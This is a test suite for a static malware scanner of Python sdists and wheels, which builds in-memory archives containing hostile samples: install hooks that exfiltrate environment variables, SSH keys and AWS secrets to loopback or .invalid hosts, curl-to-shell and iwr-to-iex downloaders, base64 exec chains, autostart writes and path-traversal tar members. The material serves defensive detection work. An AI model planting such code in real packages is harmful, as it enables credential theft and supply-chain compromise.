"""The static artifact scan: detectors, scoring, archive safety, and the rule.

Every sample is benign by construction: URLs point at 127.0.0.1 or a reserved
``.invalid`` name, paths stay in temporary directories, and nothing is ever run
(the scanner never runs anything; the tests only build archives in memory).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from pathlib import Path

import pytest
from packaging.utils import canonicalize_name
from packaging.version import Version

from guard.analysis.scan import ScanResult, layout, scan_archive, scanner
from guard.analysis.scan import archive as archive_reader
from guard.analysis.scan import score as scoring
from guard.analysis.scan.archive import Limits, UnsafeArchive, native_kind, read_archive
from guard.analysis.scan.hits import Hit
from guard.analysis.scan.python import analyse
from guard.analysis.scan.python.outline import module_imports
from guard.models import Action, Candidate, Source
from guard.rules.base import Context
from guard.rules.scan import SCAN_RULES, InstallTimeCode

ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


# --- building archives in memory ----------------------------------------------------


def sdist(
    tmp_path: Path, files: Mapping[str, str | bytes], name: str = "demo-1.0", gzip: bool = True
) -> Path:
    """A gzipped tar ``{name}.tar.gz`` with ``files`` under ``{name}/`` (``gzip``
    false: a plain ``{name}.tar``, with no bomb ratio for a large member to trip)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if gzip else "w") as archive:
        for path, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"{name}/{path}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    target = tmp_path / f"{name}.tar.gz" if gzip else tmp_path / f"{name}.tar"
    target.write_bytes(buffer.getvalue())
    return target


def wheel(tmp_path: Path, files: Mapping[str, str | bytes], name: str = "demo-1.0") -> Path:
    """A py3-none-any wheel with ``files`` (no RECORD needed for scanning)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(path, content)
    target = tmp_path / f"{name.replace('-', '-', 1)}-py3-none-any.whl"
    target.write_bytes(buffer.getvalue())
    return target


def scan(path: Path, **kwargs: float) -> ScanResult:
    return scan_archive(path, path.name, **kwargs)


def rules(result: ScanResult) -> set[str]:
    return {f.rule for f in result.findings}


def setup_py(body: str) -> str:
    return f"{body}\nfrom setuptools import setup\nsetup(name='demo', version='1.0')\n"


# --- honest build scripts stay clean --------------------------------------------------

HONEST_SETUP = """
import os
import subprocess
import sys
from pathlib import Path

from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext

here = Path(__file__).parent
long_description = (here / "README.md").read_text(encoding="utf-8")
about = {}
exec(open(os.path.join("demo", "__version__.py")).read(), about)

def git_version():
    return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()

class CMakeBuild(build_ext):
    def run(self):
        jobs = os.environ.get("MAX_JOBS", "2")
        cc = os.environ.get("CC", "cc")
        subprocess.check_call(["cmake", "-S", ".", "-B", "build", f"-DCC={cc}"])
        subprocess.check_call(["cmake", "--build", "build", "-j", jobs])
        subprocess.check_call([sys.executable, "-m", "cython", "demo/fast.pyx"])

setup(
    name="demo",
    version=about["__version__"],
    long_description=long_description,
    ext_modules=[Extension("demo._fast", ["demo/fast.c"])],
    cmdclass={"build_ext": CMakeBuild},
)
"""


def test_honest_setup_py_is_clean(tmp_path: Path) -> None:
    path = sdist(
        tmp_path,
        {
            "setup.py": HONEST_SETUP,
            "demo/__init__.py": "from demo.__version__ import __version__\n",
            "demo/__version__.py": "__version__ = '1.0'\n",
            "README.md": "# demo\n",
        },
    )
    result = scan(path)
    assert result.findings == (), result.findings
    assert result.level == "clean"
    assert result.files_read == 3


def test_library_code_calling_subprocess_in_functions_is_clean(tmp_path: Path) -> None:
    module = (
        "import subprocess, requests\n"
        "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
        "def fetch(url):\n    return requests.get(url, timeout=5)\n"
    )
    path = wheel(tmp_path, {"demo/__init__.py": "", "demo/util.py": module})
    assert scan(path).findings == ()


# --- install-time-code ------------------------------------------------------------------


def test_setup_py_spawning_powershell_blocks(tmp_path: Path) -> None:
    body = (
        "import subprocess\n"
        "subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command', 'echo hi'])\n"
    )
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    assert result.level == "block"
    first = result.findings[0]
    assert first.rule == "install-time-code"
    assert not first.weak
    assert "setup.py:2" in first.message and "powershell" in first.message
    assert first.evidence[0][0] == "setup.py:2"
    assert "subprocess.Popen" in first.evidence[0][1]


@pytest.mark.parametrize(
    "call",
    [
        # a build tool's name (python) running code that fetches and runs more code
        'os.system("python -c \\"import urllib.request;'
        "exec(urllib.request.urlopen('http://127.0.0.1:9/x').read())\\\"\")",
        "subprocess.call([sys.executable, '-c', 'import base64;exec(base64.b64decode(B))'])",
        "subprocess.Popen('node -e \"require(\\'child_process\\').exec(x)\"', shell=True)",
    ],
)
def test_setup_py_running_inline_code_that_runs_more_blocks(tmp_path: Path, call: str) -> None:
    body = f"import os, subprocess, sys\n{call}\n"
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    assert result.level == "block", result.findings
    assert "runs inline code" in result.findings[0].message


def test_setup_py_asking_python_a_question_is_clean(tmp_path: Path) -> None:
    body = (
        "import subprocess, sys\n"
        "inc = subprocess.check_output([sys.executable, '-c', "
        "'import sysconfig; print(sysconfig.get_paths()[\"include\"])'])\n"
    )
    assert scan(sdist(tmp_path, {"setup.py": setup_py(body)})).findings == ()


def test_cmdclass_install_that_sends_host_data_blocks(tmp_path: Path) -> None:
    body = """
import getpass, json, os, socket, urllib.request
from setuptools.command.install import install

class Install(install):
    def run(self):
        data = json.dumps({"host": socket.gethostname(), "user": getpass.getuser(),
                           "env": dict(os.environ)}).encode()
        urllib.request.urlopen("http://127.0.0.1:9/collect", data=data)
        install.run(self)
"""
    code = body + "\nfrom setuptools import setup\nsetup(cmdclass={'install': Install})\n"
    result = scan(sdist(tmp_path, {"setup.py": code}))
    assert result.level == "block"
    assert "install-time-code" in rules(result)
    assert "collects host data" in result.findings[0].message


def test_in_tree_backend_is_install_time(tmp_path: Path) -> None:
    backend = "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n"
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "_build.backend"\n'
    pyproject += 'backend-path = ["."]\n'
    path = sdist(
        tmp_path,
        {"pyproject.toml": pyproject, "_build/backend.py": backend, "_build/__init__.py": ""},
    )
    result = scan(path)
    assert result.level == "block"
    assert any("_build/backend.py:2" in k for f in result.findings for k, _ in f.evidence)


def test_module_that_setup_py_imports_is_install_time(tmp_path: Path) -> None:
    helper = "import subprocess\nsubprocess.call('cmd.exe /c start payload.bat', shell=True)\n"
    path = sdist(tmp_path, {"setup.py": setup_py("import buildhelp"), "buildhelp.py": helper})
    result = scan(path)
    assert result.level == "block"
    assert "buildhelp.py:2" in result.findings[0].message


def test_python2_setup_py_falls_back_to_text(tmp_path: Path) -> None:
    code = 'import os\nprint "installing"\nos.system("powershell -enc ZQBjAGgAbwA=")\n'
    report = analyse(code)
    assert report.parsed == "tokens"
    result = scan(sdist(tmp_path, {"setup.py": code}))
    assert result.level == "block"
    assert "install-time-code" in rules(result)


# --- obfuscated-code ---------------------------------------------------------------------


def test_base64_exec_chain_blocks(tmp_path: Path) -> None:
    body = "import base64 as b\npayload = b.b64decode('cHJpbnQoJ2hpJyk=')\nexec(payload)\n"
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    assert result.level == "block"
    assert result.findings[0].rule == "obfuscated-code"
    assert "exec() of decoded data" in result.findings[0].message


def test_zlib_marshal_and_dunder_import_chains(tmp_path: Path) -> None:
    code = (
        "z = __import__('zlib')\n"
        "getattr(__builtins__, 'exec')\n"
        "exec(z.decompress(b'x\\x9c+\\xca\\xcc+\\xd1P\\xf2\\xc8T\\xd2\\x04\\x00\\x1c\\xc5\\x03\\xd9'))\n"
    )
    hits = {h.kind for h in analyse(code).hits}
    assert "decode-exec" in hits
    assert "marshal" in {h.kind for h in analyse("import marshal\nmarshal.loads(b'')\n").hits}


def test_chr_joined_string_fed_to_exec(tmp_path: Path) -> None:
    body = "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41, 10]))\n"
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    assert result.level == "block"
    assert "obfuscated-code" in rules(result)


def test_chr_over_a_computed_range_is_not_obfuscation() -> None:
    code = "CONTROL = ''.join(chr(i) for i in range(32))\n"
    assert analyse(code).hits == ()
    # a range filtered by a tuple of code points: a character set (httpx's URL quoting)
    codes = ", ".join(str(c) for c in range(0x20, 0x2A))
    safe = f"SAFE = ''.join([chr(i) for i in range(0x20, 0x7F) if i not in ({codes})])\n"
    assert analyse(safe).hits == ()
    # a move into another Unicode block (surrogate escapes), over bytes given at run time
    escape = "def f(b):\n    return ''.join(chr(0xDC00 + x) for x in b)\n"
    assert analyse(escape).hits == ()


def test_chr_of_shifted_literal_text_is_obfuscation() -> None:
    code = "N = ''.join(chr(ord(c) - 3) for c in 'hydo')\n"
    assert [h.kind for h in analyse(code).hits] == ["chr-join"]


def test_bidi_control_and_homoglyph_identifiers() -> None:
    bidi = analyse("access = 'user'  # \u202e } \u2066if admin:\u2069 \u2066\n")
    assert {h.kind for h in bidi.hits} == {"bidi"}
    mixed = analyse("p\u0430yload = 1\nprint(p\u0430yload)\n")  # Cyrillic a in a Latin name
    assert [h.kind for h in mixed.hits] == ["homoglyph"]
    folded = analyse("\uff45\uff58\uff45\uff43('1')\n")  # fullwidth "exec", which Python runs
    assert "homoglyph" in {h.kind for h in folded.hits}
    native = analyse("\u0434\u0430\u043d\u043d\u044b\u0435 = 1\n")  # an all-Cyrillic name
    assert native.hits == ()


def test_high_entropy_literal_is_weak_alone(tmp_path: Path) -> None:
    blob = "".join(chr(33 + (i * 7919) % 90) for i in range(400)).replace(" ", "")
    blob = "".join(c for c in blob if c.isalnum() or c in "+/=")
    body = f"BLOB = {blob!r}\n"
    hits = [h for h in analyse(body).hits if h.kind == "blob"]
    assert hits and hits[0].rule == "obfuscated-code"
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    assert result.level == "clean"


# --- exfil-endpoint ----------------------------------------------------------------------


def test_discord_style_webhook_on_loopback_blocks_with_network(tmp_path: Path) -> None:
    body = (
        "import requests, socket\n"
        "requests.post('http://127.0.0.1:9/api/webhooks/123456789012/"
        "abcdefghijklmnopqrstuvwxyz0123', json={'content': socket.gethostname()})\n"
    )
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    assert result.level == "block"
    assert "exfil-endpoint" in rules(result)


def test_endpoint_patterns() -> None:
    samples = {
        "https://discord.com/api/webhooks/1/x": "Discord webhook",
        "https://api.telegram.org/bot123:abc/sendMessage": "Telegram bot API",
        "https://pastebin.com/raw/abc": "paste site",
        "https://abc-12.ngrok-free.app/x": "tunnel",
        "https://x.webhook.site/abc": "request bin",
    }
    for url, what in samples.items():
        hits = [h for h in analyse(f"U = {url!r}\n").hits if h.rule == "exfil-endpoint"]
        assert hits and what in hits[0].text, url
    raw = analyse("U = 'http://93.184.216.34:8080/x'\n").hits
    assert [h.kind for h in raw] == ["raw-ip"]
    local = analyse("U = 'http://127.0.0.1:8000/'\n").hits
    assert [h.kind for h in local] == ["raw-ip-local"]


def test_generated_tunnel_names_are_concrete_channels() -> None:
    for host in (
        "b296-71-179-165-157.ngrok-free.app",
        "8425-2a02-a310-e143-8d80.ngrok-free.app",
        "0.tcp.eu.ngrok.io",
        "calm-river-lake-stone.trycloudflare.com",
    ):
        kinds = [h.kind for h in analyse(f"H = 'https://{host}/x'\n").hits]
        assert "channel" in kinds, host
    # the service's own names are endpoints, not someone's channel
    kinds = [h.kind for h in analyse("H = 'https://dashboard.ngrok.com/x'\n").hits]
    assert "channel" not in kinds


def test_documentation_and_placeholder_addresses_are_no_endpoints() -> None:
    for url in (
        "http://192.0.2.10/x",
        "http://198.51.100.7:8080/x",
        "https://203.0.113.9/",
        "http://1.2.3.4:8080",
        "https://999.999.999.999/",
    ):
        assert analyse(f"U = {url!r}\n").hits == (), url


# --- credential-access -------------------------------------------------------------------


COOKIE_READER = (
    "import ctypes, os\n"
    "CHROME = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n"
    "STATE = os.path.join('Google/Chrome/User Data', 'Local State')\n"
    "PASSWORDS = 'Chrome/User Data/Default/Login Data'\n"
    "def unprotect(blob):\n"
    "    return ctypes.windll.crypt32.CryptUnprotectData(blob)\n"
)


def test_a_cookie_reading_library_warns_at_most(tmp_path: Path) -> None:
    result = scan(wheel(tmp_path, {"cookies/__init__.py": COOKIE_READER}, name="a-1.0"))
    assert result.level == "warn"


def test_a_cookie_reader_that_uploads_blocks(tmp_path: Path) -> None:
    upload = COOKIE_READER + "def send(data):\n    import requests\n    requests.post(URL, data)\n"
    result = scan(wheel(tmp_path, {"cookies/__init__.py": upload}, name="b-1.0"))
    assert result.level == "block"
    assert any(s.kind == "steal-send" for s in result.signals)


def test_ssh_keys_and_browser_data_in_setup_py_block(tmp_path: Path) -> None:
    body = (
        "import os, urllib.request\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "cookies = os.path.join('Google', 'Chrome', 'User Data', 'Default', 'Network/Cookies')\n"
        "urllib.request.urlopen('http://collector.invalid/', data=key.encode())\n"
    )
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    assert result.level == "block"
    assert "credential-access" in rules(result)


def test_secret_environment_variable(tmp_path: Path) -> None:
    hits = analyse("import os\nt = os.environ['GITHUB_TOKEN']\nu = os.getenv('CC')\n").hits
    assert [h.kind for h in hits] == ["env-secret"]


# --- dropper ----------------------------------------------------------------------------


def test_download_then_execute_blocks(tmp_path: Path) -> None:
    body = (
        "import os, subprocess, tempfile, urllib.request\n"
        "target = os.path.join(tempfile.gettempdir(), 'update.exe')\n"
        "urllib.request.urlretrieve('http://127.0.0.1:9/update.exe', target)\n"
        "subprocess.Popen([target])\n"
    )
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    assert result.level == "block"
    assert "dropper" in rules(result)


def test_exec_of_downloaded_code_is_a_dropper() -> None:
    code = "import requests\nexec(requests.get('http://127.0.0.1:9/p.py').text)\n"
    assert "download-exec" in {h.kind for h in analyse(code).hits}


def test_autostart_write() -> None:
    code = (
        "import os\n"
        "p = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', "
        "'Start Menu\\\\Programs\\\\Startup', 'x.bat')\n"
        "open(p, 'w').write('echo')\n"
    )
    assert "autostart" in {h.kind for h in analyse(code).hits}


@pytest.mark.parametrize(
    ("command", "persistent"),
    [
        ("WGET -q http://127.0.0.1:9/a -O /tmp/.a && sh /tmp/.a", True),
        ("iwr http://127.0.0.1:9/a.ps1 | iex", True),
        ("IRM 'http://127.0.0.1:9/a.ps1' | iex", True),
        ("Invoke-WebRequest -Uri http://127.0.0.1:9/a.exe -OutFile a.exe", True),
        # (words that only hold the short forms: no download)
        ("confirm http://127.0.0.1:9/a; airmail", False),
    ],
)
def test_a_download_command_written_to_a_log_in_file(command: str, persistent: bool) -> None:
    code = (
        "import os\n"
        "def refresh():\n"
        "    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
        f"        rc.write({command!r})\n"
    )
    assert ("persist-fetch" in {h.kind for h in analyse(code).hits}) is persistent


# --- pth-code ---------------------------------------------------------------------------


def test_pth_that_execs_blocks(tmp_path: Path) -> None:
    pth = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
    result = scan(wheel(tmp_path, {"demo/__init__.py": "", "demo-hook.pth": pth}))
    assert result.level == "block"
    assert result.findings[0].rule in {"pth-code", "obfuscated-code"}
    assert "pth-code" in rules(result)


def test_pth_fixtures_in_an_sdists_tests_do_not_count_as_start_up_code(tmp_path: Path) -> None:
    pth = "import sys, types, os; p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'x')\n"
    fixture: dict[str, str | bytes] = {
        "setup.py": setup_py(""),
        "tests/functional/pkg/demo-nspkg.pth": pth,
    }
    assert scan(sdist(tmp_path, fixture, name="a-1.0")).level == "clean"
    shipped: dict[str, str | bytes] = {"setup.py": setup_py(""), "demo-nspkg.pth": pth}
    assert scan(sdist(tmp_path, shipped, name="b-1.0")).level != "clean"


def test_namespace_and_path_pth_files_are_clean(tmp_path: Path) -> None:
    shim = (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo',));"
        "importlib = has_mfs and __import__('importlib.util');"
        "has_mfs and __import__('importlib.machinery');"
        "m = has_mfs and sys.modules.setdefault('demo', importlib.util.module_from_spec("
        "importlib.machinery.PathFinder.find_spec('demo', [os.path.dirname(p)])));"
        "m = m or sys.modules.setdefault('demo', types.ModuleType('demo'));"
        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);"
        "(p not in mp) and mp.append(p)\n"
    )
    files: dict[str, str | bytes] = {"demo-nspkg.pth": shim, "demo-paths.pth": "src\n"}
    assert scan(wheel(tmp_path, files)).findings == ()


# --- bundled-binary ------------------------------------------------------------------------


def test_namespace_package_top_runs_at_import_unless_no_import_reaches_it(
    tmp_path: Path,
) -> None:
    """``import space.demo`` runs ``space/demo/__init__.py`` (no ``space/__init__.py``);
    a copy of a virtual environment in a wheel (``venv/Lib/site-packages/...``) is
    reached by no import statement, so its packages are no import-time code."""
    upload = "import requests\nrequests.post('http://127.0.0.1:9/u', data=b'x')\n"
    files: dict[str, str | bytes] = {
        "space/demo/__init__.py": upload,
        "venv/Lib/site-packages/other/__init__.py": upload,
    }
    result = scan(wheel(tmp_path, files))
    roles = {s.file: s.role for s in result.signals}
    assert roles["space/demo/__init__.py"] == "import"
    assert roles.get("venv/Lib/site-packages/other/__init__.py", "module") == "module"


def test_bound_methods_run_when_handed_to_a_thread_not_to_a_registry() -> None:
    """``Thread(target=self.beat)`` runs ``beat`` as the object is made; a CLI's
    ``app.command("save")(self.save)`` registers ``save``, which runs only when
    the user asks for it."""
    code = (
        "import os, threading\n"
        "class Tool:\n"
        "    def __init__(self, app):\n"
        "        app.command('save')(self.save)\n"
        "        threading.Thread(target=self.beat).start()\n"
        "    def save(self):\n"
        "        os.system('whoami')\n"
        "    def beat(self):\n"
        "        os.system('whoami')\n"
        "Tool(APP)\n"
    )
    deferred = {h.line: h.deferred for h in analyse(code).hits if h.kind == "spawn-shell"}
    assert deferred == {7: True, 9: False}


_SENDS_KEY = (
    "import json, os, urllib.request\n"
    "def send():\n"
    "    data = json.dumps({'k': os.getenv('AWS_SECRET_ACCESS_KEY')}).encode()\n"
    "    urllib.request.urlopen('https://x.invalid/k', data=data)\n"
)


@pytest.mark.parametrize(
    ("tail", "read"),
    [
        ("send()\n", True),
        ("import atexit\natexit.register(send)\n", True),
        ("@send\ndef hooked():\n    pass\n", True),
        ("class C:\n    def __init__(self):\n        send()\nc = C()\n", True),
        ("class K:\n    sent = send()\n", True),  # (a class body runs as it is defined)
        ("if __name__ == '__main__':\n    send()\n", False),  # (runs as a script only)
        ("registry = {'send': 'send'}\n", False),  # (a string, no function)
    ],
)
def test_what_a_module_read_at_module_level_runs_is_read(tail: str, read: bool) -> None:
    """A module read at module level only (its quick look finds nothing risky) has
    the bodies of the functions its module-level code runs read: a technique in
    them is found (here a signing key sent), as it is in a function that runs."""
    source = _SENDS_KEY + tail
    if "class C" in tail:
        source = source.replace("def send():", "def send(*_):")
    kinds = {h.kind for h in analyse(source, functions=False).hits}
    assert ("steal-send" in kinds) is read


@pytest.mark.parametrize(
    "code",
    [
        # lambdas 900 deep, called 901 times: Python compiles it, a recursive reader does not
        "f = " + "lambda: " * 900 + "print(1)\n" + "f" + "()" * 901 + "\n",
        # the same depth of attribute and subscript chains
        "x = a" + ".b" * 5000 + "\n",
        "x = a" + "[0]" * 5000 + "\n",
    ],
)
def test_code_too_deep_for_the_analysis_fails_closed(tmp_path: Path, code: str) -> None:
    """Nesting deeper than the analysis can follow never crashes the scan: the file
    is reported as not analysed in full, which blocks import-time code."""
    result = scan(wheel(tmp_path, {"demo/__init__.py": code}))
    assert result.level == "block"
    unanalysed = [s for s in result.signals if s.kind == "unanalysed"]
    assert unanalysed and "not analysed in full" in unanalysed[0].text


def test_native_binary_alone_is_evidence_not_a_warning(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {"demo/__init__.py": ""}
    files.update({f"demo/launcher-{i}.exe": ELF for i in range(6)})  # packaging launchers
    result = scan(wheel(tmp_path, files))
    assert result.level == "clean"
    assert result.findings == ()


def test_native_binary_adds_to_a_warning(tmp_path: Path) -> None:
    paste = "PASTE = 'https://pastebin.com/raw/abc'\n"
    without = scan(wheel(tmp_path, {"demo/__init__.py": paste}, name="a-1.0"))
    files: dict[str, str | bytes] = {"demo/__init__.py": paste, "demo/helper": ELF}
    both = scan(wheel(tmp_path, files, name="b-1.0"))
    assert without.level == "warn"
    assert both.score > without.score
    assert both.level == "block"
    assert "bundled-binary" in rules(both)


def test_native_binary_run_from_a_pth_blocks(tmp_path: Path) -> None:
    pth = "import subprocess; subprocess.Popen(['demo/helper.exe'])\n"
    files: dict[str, str | bytes] = {"demo/helper.exe": ELF, "demo.pth": pth}
    result = scan(wheel(tmp_path, files))
    assert result.level == "block"
    assert {"bundled-binary", "pth-code"} <= rules(result)


# A compiled Python module's bytes: an ELF head, then the init function it exports
# in its symbol names (a stand-in, not a real library).
MODULE = ELF + b"\x00" * 200 + b"PyInit_fast\x00" + b"\x00" * 64


@pytest.mark.parametrize(
    "member", ["demo/fast.cpython-311-x86_64-linux-gnu.so", "demo/fast.pyd", "demo/fast.abi3.so"]
)
def test_compiled_module_in_an_sdist_blocks(tmp_path: Path, member: str) -> None:
    """Prebuilt code that runs as it is imported, where the source belongs."""
    setup = 'from setuptools import setup\nsetup(name="demo")\n'
    files: dict[str, str | bytes] = {"setup.py": setup, "demo/__init__.py": "", member: MODULE}
    result = scan(sdist(tmp_path, files))
    assert result.level == "block"
    assert [s.kind for s in result.signals] == ["compiled-module"]
    assert "compiled Python module fast (ELF) in an sdist: code that" in result.signals[0].text


def test_compiled_module_in_a_pure_wheel_blocks(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {"demo/__init__.py": "", "demo/fast.so": MODULE}
    assert scan(wheel(tmp_path, files)).level == "block"


def test_libraries_and_platform_wheels_are_no_compiled_modules(tmp_path: Path) -> None:
    """A shared library (no init function of its name, or another module's) is
    evidence only; a platform wheel is where compiled modules belong."""
    library: dict[str, str | bytes] = {
        "demo/__init__.py": "",
        "demo/libfast.so": MODULE,  # (exports PyInit_fast, not PyInit_libfast)
        "demo/other.so": ELF + b"PyInit_fast",
        "demo/tests/data/fast.so": b"not a binary",
    }
    quiet = scan(wheel(tmp_path, library, name="lib-1.0"))
    assert quiet.level == "clean"
    assert {s.kind for s in quiet.signals} == {"native"}
    platform = tmp_path / "plat"
    platform.mkdir()
    path = wheel(platform, {"demo/__init__.py": "", "demo/fast.so": MODULE}, name="plat-1.0")
    tagged = path.with_name("plat-1.0-cp311-cp311-manylinux_2_17_x86_64.whl")
    path.rename(tagged)
    assert scan(tagged).signals == ()


# A stand-in for a Windows program: a PE head (``MZ`` ... offset of the PE header).
PE_HEAD = b"MZ" + b"\x90\x00" * 29 + b"\x80\x00\x00\x00" + b"\x00\xff\xfe" * 300


def _xor(data: bytes, key: int) -> bytes:
    return bytes(b ^ key for b in data)


@pytest.mark.parametrize("key", [0x00, 0xD8])
def test_binary_data_named_as_python_source_blocks(tmp_path: Path, key: int) -> None:
    """A ``.py`` that holds binary data (here a program, plain or XOR-encoded) is
    no code: a payload kept where code belongs. It is not read as text."""
    files: dict[str, str | bytes] = {"demo/__init__.py": "", "demo/util.py": _xor(PE_HEAD, key)}
    result = scan(wheel(tmp_path, files))
    assert result.level == "block"
    assert [(s.kind, s.file) for s in result.signals] == [("disguised", "demo/util.py")]
    program = "a PE program" + (f" XOR-encoded with key {key:#04x}" if key else "")
    assert f" bytes, {program}): Python cannot import it" in result.signals[0].text


def test_encrypted_data_named_as_python_source_blocks(tmp_path: Path) -> None:
    """Bytes that are no text at all (an encrypted payload, no program head seen)."""
    noise = bytes((i * 73 + 41) % 251 for i in range(8192))
    result = scan(wheel(tmp_path, {"demo/__init__.py": "", "demo/data.py": noise}))
    assert result.level == "block"
    text = "binary data in a file named as Python source (8192 bytes)"
    assert result.signals[0].text.startswith(text)


def test_apple_double_utf16_and_stray_nul_files_are_no_disguise(tmp_path: Path) -> None:
    """A Mac archiver's resource forks, source saved as UTF-16 or Latin-1, text with
    one stray NUL, and binary data in a ``.pth`` (a PyTorch model's weights) are no
    disguise: no finding."""
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "",
        "demo/._util.py": b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X" + b"\x00\xff" * 40,
        "demo/wide.py": "x = 'caf\u00e9'\n".encode("utf-16-le"),
        "demo/wide_bom.py": "x = 1\n".encode("utf-16"),
        "demo/stray.py": b"x = 1\n\x00\n",
        "demo/latin.py": "# -*- coding: latin-1 -*-\n# caf\u00e9\nx = 1\n".encode("latin-1"),
        "demo/model.pth": _xor(PE_HEAD, 0x5C),  # (a model's weights, not a path file)
    }
    assert scan(wheel(tmp_path, files)).signals == ()


def test_native_kind() -> None:
    assert native_kind(ELF) == "ELF"
    assert native_kind(b"MZ" + b"\x00" * 58 + b"\x80\x00\x00\x00") == "PE"
    assert native_kind(b"\xcf\xfa\xed\xfe" + b"\x00" * 12) == "Mach-O"
    assert native_kind(b"#!/bin/sh\n") == ""


# --- scoring ----------------------------------------------------------------------------


def test_deep_module_signals_are_capped_below_block(tmp_path: Path) -> None:
    deep = (
        "NETRC = '~/.netrc'\nSSH = '~/.ssh/config'\n"
        "HOOK = 'https://discord.com/api/webhooks/1/x'\n"
        "IP = 'http://93.184.216.34/'\n"
    )
    files: dict[str, str | bytes] = {"demo/__init__.py": "", "demo/launcher.exe": ELF}
    files.update({f"demo/sub/m{i}.py": deep for i in range(3)})
    files["demo/sub/__init__.py"] = ""
    result = scan(wheel(tmp_path, files))
    assert result.level == "warn"
    assert "capped" in result.findings[0].message


def test_decode_exec_in_a_top_level_init_blocks(tmp_path: Path) -> None:
    init = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    result = scan(wheel(tmp_path, {"demo/__init__.py": init}))
    assert result.level == "block"


def test_tests_and_docs_count_least(tmp_path: Path) -> None:
    code = "import subprocess\nsubprocess.Popen(['powershell', '-c', 'echo'])\n"
    files: dict[str, str | bytes] = {"tests/test_x.py": code, "docs/conf.py": code}
    assert scan(sdist(tmp_path, files)).level == "clean"


def test_score_message_lists_parts_strongest_first(tmp_path: Path) -> None:
    body = (
        "import base64, subprocess\n"
        "subprocess.call('powershell -enc AAAA', shell=True)\n"
        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
    )
    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
    message = result.findings[0].message
    assert message.index("setup.py:3") < message.index("setup.py:2")
    assert "scan score 11.0 >= 5.0 (block)" in message
    assert [f.score for f in result.findings] == sorted(
        (f.score for f in result.findings), reverse=True
    )


# --- archive safety -------------------------------------------------------------------------


def _tar_with(tmp_path: Path, info: tarfile.TarInfo, data: bytes = b"") -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        archive.addfile(info, io.BytesIO(data) if data else None)
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(buffer.getvalue())
    return path


@pytest.mark.parametrize(
    ("kind", "name", "link"),
    [
        ("file", "demo-1.0/../../etc/evil.py", ""),
        ("file", "/abs/evil.py", ""),
        ("file", "demo-1.0/.. /evil.py", ""),  # (``..`` on Windows)
        ("file", "demo-1.0/.../evil.py", ""),
        ("sym", "demo-1.0/link", "../../outside"),
        ("sym", "demo-1.0/link", "/etc/passwd"),
        ("hard", "demo-1.0/link", "../elsewhere"),
        ("fifo", "demo-1.0/pipe", ""),
        ("chr", "demo-1.0/dev", ""),
    ],
)
def test_unsafe_tar_members_are_refused(tmp_path: Path, kind: str, name: str, link: str) -> None:
    info = tarfile.TarInfo(name)
    data = b""
    if kind == "file":
        data = b"x = 1\n"
        info.size = len(data)
    elif kind == "sym":
        info.type, info.linkname = tarfile.SYMTYPE, link
    elif kind == "hard":
        info.type, info.linkname = tarfile.LNKTYPE, link
    elif kind == "fifo":
        info.type = tarfile.FIFOTYPE
    else:
        info.type = tarfile.CHRTYPE
    result = scan(_tar_with(tmp_path, info, data))
    assert result.level == "unreadable"
    [finding] = result.findings
    assert finding.rule == "unreadable-archive"
    assert not finding.weak


@pytest.mark.parametrize(
    "name",
    [
        "demo/./__init__.py",
        "demo//__init__.py",
        "./demo/__init__.py",
        "demo/__init__.py ",  # (Windows drops the dots and spaces that end a name)
        "demo/__init__.py.",
        "demo/__init__.py::$DATA",  # (and writes a name's data stream to the name)
        "demo/__INIT__.py",  # (macOS and Windows find it where Python stats __init__.py)
    ],
)
def test_a_member_is_read_under_the_name_a_file_system_writes_it_to(
    tmp_path: Path, name: str
) -> None:
    """What an installer writes to ``demo/__init__.py`` runs when ``demo`` is
    imported, whatever spelling of that path the archive holds."""
    source = "import os\nos.system('id')\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, source)
    path = tmp_path / "demo-1.0-py3-none-any.whl"
    path.write_bytes(buffer.getvalue())
    signals = {(s.kind, s.file, s.role) for s in scan(path).signals}
    assert ("spawn", "demo/__init__.py", "import") in signals


